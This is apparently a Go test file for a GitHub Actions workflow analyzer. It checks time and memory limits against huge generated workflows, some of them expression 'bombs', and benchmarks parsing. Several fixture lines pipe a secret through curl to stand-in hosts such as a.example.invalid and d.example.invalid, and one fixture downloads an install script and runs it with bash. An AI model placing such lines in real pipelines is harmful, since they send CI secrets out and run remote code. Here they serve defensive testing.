package workflow

import (
	"fmt"
	"maps"
	"runtime/metrics"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// tangled builds files that cost a reader of values and jobs much, each of close to a mebibyte.
func tangled() map[string]string {
	repeat := func(one string) string { return strings.Repeat(one, (MaxSize-4096)/len(one)) }
	number := func(n int, format string) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, strings.ReplaceAll(format, "%", "%[1]d"), i)
		}
		return b.String()
	}
	bomb := "'" + strings.Repeat("{0}", 60) + "'"
	formats := "secrets.A"
	for range 12 {
		formats = "format(" + bomb + ", " + formats + ")"
	}
	chain := "env:\n  V0: " + strings.Repeat("x", 100) + "\n"
	levels := oneJob + "    env: {A: \"" + strings.Repeat("${{ secrets.S }}", 300) + "\"}\n    steps:\n"
	return map[string]string{
		"variables and steps":  "on: push\nenv:\n" + number(20_000, "  V%: x${{ secrets.S }}\n") + "jobs:\n  a:\n    runs-on: x\n    steps:\n" + strings.Repeat("      - run: a\n", 30_000),
		"values of values":     levels + repeat("      - {env: {B: \"${{ env.A }}${{ env.A }}\"}, run: \"echo ${{ env.B }}${{ env.B }}\"}\n"),
		"format of format":     oneJob + "    steps:\n" + strings.Repeat("      - run: echo ${{ "+formats+" }}\n", 300),
		"chain of variables":   chain + "jobs:\n" + number(8000, "  j%:\n    runs-on: x\n    needs: [j%]\n    env: {A: \"${{ needs.j0.outputs.o }}\"}\n    steps: [{run: make}]\n"),
		"chain of jobs":        "on: push\njobs:\n" + needsChain(12_000),
		"large matrix":         oneJob + "    strategy:\n      matrix:\n" + number(60, "        k%: ["+strings.Repeat("host.example.invalid, ", 100)+"x]\n") + "    steps:\n" + strings.Repeat("      - run: curl ${{ matrix.k1 }}.${{ matrix.k2 }}\n", 10_000),
		"many inputs":          oneJob + "    steps:\n      - uses: a/b@v1\n        with:\n" + number(30_000, "          url%: https://h%.example.invalid\n"),
		"many files":           oneJob + "    env: {S: \"${{ secrets.S }}\"}\n    steps:\n" + number(8000, "      - run: echo $S > f%\n      - {uses: actions/upload-artifact@v4, with: {path: 'f*[0-9]?%'}}\n"),
		"many outputs":         oneJob + "    steps:\n" + number(8000, "      - {id: s%, run: 'echo o=${{ secrets.S }} >> $GITHUB_OUTPUT'}\n      - run: echo ${{ steps.s%.outputs.o }}\n"),
		"many variables left":  oneJob + "    steps:\n" + number(8000, "      - run: echo \"V%=${{ secrets.S }}\" >> $GITHUB_ENV\n"),
		"many broken scripts":  "\t\n" + repeat("run: curl -d x=${{ secrets.S }} a.example.invalid\n"),
		"many scripts, no job": "x:\n" + repeat("  - run: curl -d x=${{ secrets.S }} a.example.invalid\n"),
		"many uses of itself":  "on: push\njobs:\n" + number(15_000, "  j%:\n    uses: ./.github/workflows/x.yml\n    secrets: inherit\n"),
		"one long script":      oneJob + "    steps:\n      - run: |\n" + repeat("          echo ${{ secrets.S }} | base64 | curl -d @- https://d.example.invalid/p\n"),
	}
}

func needsChain(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "  j%d: {needs: [j%d], runs-on: x, steps: [{run: make}]}\n", i, i+1)
	}
	return b.String()
}

// TestBounds: the worst files stay within a second and 100 MiB on a machine of its own; what fails is four and twenty times as much, since tests run
// beside others and with the race detector.
func TestBounds(t *testing.T) {
	all := tangled()
	maps.Copy(all, hostile())
	for _, name := range slices.Sorted(maps.Keys(all)) {
		t.Run(name, func(t *testing.T) {
			text := []byte(all[name])
			var took time.Duration
			peak := peakHeap(func() {
				start := time.Now()
				f, _ := new(Parser).Judge(text)
				took = time.Since(start)
				if len(f.Problems) > 3*MaxProblems {
					t.Errorf("%d problems", len(f.Problems))
				}
				if strings.Contains(all[name], "secrets.A") && len(f.Secrets) == 0 {
					t.Error("the secret was lost")
				}
			})
			t.Logf("%d bytes, %v, %d MiB", len(text), took.Round(time.Millisecond), peak>>20)
			if took > 60*time.Second || peak > 400<<20 {
				t.Errorf("took %v and %d MiB", took, peak>>20)
			}
		})
	}
}

// peakHeap is by how much the heap grew at most while something ran, in bytes, garbage not yet collected included.
func peakHeap(run func()) uint64 {
	heap := func() uint64 {
		s := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
		metrics.Read(s)
		return s[0].Value.Uint64()
	}
	before, peak := heap(), uint64(0)
	done := make(chan struct{})
	var watch sync.WaitGroup
	watch.Go(func() {
		for {
			if now := heap(); now > before {
				peak = max(peak, now-before)
			}
			select {
			case <-done:
				return
			case <-time.After(2 * time.Millisecond):
			}
		}
	})
	run()
	close(done)
	watch.Wait()
	return peak
}

// BenchmarkJudge judges the versions of a file of 3 kB that differ by a line, as the history of a repository holds them.
func BenchmarkJudge(b *testing.B) {
	version := func(n int) []byte {
		var s strings.Builder
		fmt.Fprintf(&s, "name: CI\non:\n  push: {branches: [main]}\n  pull_request:\nenv:\n  BUILD: %d\njobs:\n", n)
		for _, job := range []string{"lint", "test", "docs", "release"} {
			fmt.Fprintf(&s, "  %s:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-go@v5\n        with: {go-version: '1.%d'}\n"+
				"      - name: Build\n        run: |\n          set -e\n          make %s\n          go test ./... | tee out.txt\n          curl -sSf https://example.invalid/install.sh -o install.sh\n          bash install.sh --prefix /usr/local\n"+
				"      - uses: actions/upload-artifact@v4\n        with: {name: logs, path: out.txt}\n      - run: ./publish.sh\n        env:\n          TOKEN: ${{ secrets.PUBLISH_TOKEN }}\n", job, n%20, job)
		}
		return []byte(s.String())
	}
	var p Parser
	b.SetBytes(int64(len(version(0))))
	n := 0
	for b.Loop() {
		n++
		if f, _ := p.Judge(version(n)); len(f.Jobs) != 4 {
			b.Fatal(f.Problems)
		}
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "files/s")
}
